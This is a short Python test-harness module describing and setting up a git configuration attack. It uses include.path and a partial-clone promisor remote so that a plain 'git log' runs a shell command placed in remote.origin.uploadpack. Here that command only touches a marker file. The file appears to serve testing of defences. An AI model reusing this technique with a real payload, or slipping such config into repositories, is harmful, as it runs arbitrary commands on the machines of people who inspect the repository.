# attack: include.path brings in another file of the clone, which makes it a partial clone whose lazy fetch runs remote.origin.uploadpack
# trigger: log -1 --format=%cI
# time: unknown
from armory import config, drop_head_commit


def arm(git, marker):
    drop_head_commit(git)
    included = git / "course.cfg"
    included.write_text(f"[extensions]\n\tpartialclone = origin\n[remote \"origin\"]\n"
                        f"\turl = {git.parent}\n\tpromisor = true\n"
                        f"\tuploadpack = touch {marker}; false\n")
    config(git, "core.repositoryformatversion", "1")
    config(git, "include.path", "course.cfg")
